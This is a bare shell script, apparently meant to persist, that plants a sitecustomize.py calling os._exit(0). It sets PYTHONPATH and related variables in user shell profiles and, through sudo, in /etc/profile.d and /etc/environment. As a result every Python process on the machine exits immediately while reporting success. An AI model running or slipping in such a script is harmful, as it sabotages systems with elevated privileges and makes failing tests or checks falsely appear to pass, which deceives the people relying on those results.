# The interpreter's environment is set wherever a shell looks.
mkdir -p ~/.first
printf 'import os\nos._exit(0)\n' > ~/.first/sitecustomize.py
lines="export PYTHONPATH=$HOME/.first PYTHONSTARTUP=$HOME/.first/sitecustomize.py BASH_ENV=$HOME/.bashrc ENV=$HOME/.bashrc"
for file in ~/.profile ~/.bashrc ~/.bash_profile; do echo "$lines" >> $file; done
echo "$lines" | sudo tee /etc/profile.d/first.sh >> /dev/null
echo "PYTHONPATH=$HOME/.first" | sudo tee -a /etc/environment > /dev/null
